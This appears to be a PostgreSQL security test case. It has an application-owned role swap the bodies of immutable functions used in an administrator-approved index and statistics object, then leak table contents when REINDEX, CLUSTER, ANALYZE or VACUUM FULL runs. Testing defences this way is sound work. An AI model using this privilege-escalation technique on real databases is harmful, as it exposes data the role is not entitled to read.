-- vector: an index or statistics with a harmless function are there already, with an administrator's consent; its body is replaced, and the table rebuilt
-- class: read
-- actor: attacker
-- precondition: the application's role owns the table and the function; the index and the statistics were made in maintenance, or before protect()
-- expected with sessmem: LEAK
-- stopped by: nothing: outside of maintenance such an index is refused; let a superuser own what administrators let in
-- severity: critical
\i :adapter
\ir _sane.sql
\ir _app_owns.sql
\ir _ways.sql
create function plugin.norm(t text) returns text immutable language plpgsql as $$ begin return lower(t); end $$;
create function plugin.fine(t text) returns boolean immutable language plpgsql as $$ begin return true; end $$;
\c - :su
create index norm_idx on public.messages (plugin.norm(content));
create index fine_idx on public.messages (id) where plugin.fine(content);
create statistics plugin.st on plugin.norm(content), id from public.messages;
\c - :app
create function plugin.swap() returns void language plpgsql as $$
begin
  create or replace function plugin.norm(t text) returns text immutable language plpgsql as 'begin return plugin.tell(t); end';
  create or replace function plugin.fine(t text) returns boolean immutable language plpgsql as 'begin return plugin.tells(t); end';
end $$;
insert into plugin.way(w, q, r)
select w, 'select plugin.swap(); ' || q, 'select ''done'''
from (values
  ('REINDEX INDEX', 'reindex index public.norm_idx'),
  ('REINDEX INDEX, predicate', 'reindex index public.fine_idx'),
  ('REINDEX TABLE', 'reindex table public.messages'),
  ('CLUSTER',       'cluster public.messages using messages_pkey'),
  ('ANALYZE',       'analyze public.messages'),
  ('rewrite',       'alter table public.messages add column x double precision default random()')
) as v(w, q);
\ir _try_ways.sql
\set via1 :via
\set leak1 :leak
-- outside of a transaction; and by the writes of others (in the error that they get, and in what a function keeps)
\c - :app
select plugin.swap();
\! psql -XAt -U $ATK_APP -c "vacuum full public.messages" > $ATK_TMP/t_vacuum_full 2>&1
\! psql -XAt -U $ATK_APP -c "reindex index concurrently public.norm_idx" > $ATK_TMP/t_reindex_concurrently 2>&1
\! psql -XAt -U $ATK_APP -c "analyze public.messages" > $ATK_TMP/t_analyze 2>&1
\set via `cd $ATK_TMP; grep -l 'told of CANARY-B' t_vacuum_full t_reindex_concurrently t_analyze | tr '\n' ' '`
\c - :su
select concat_ws(', ', nullif(:'via1', ''), nullif(:'via', '')) as via, :'leak1' or :'via' <> '' as leak \gset
\ir _verdict.sql
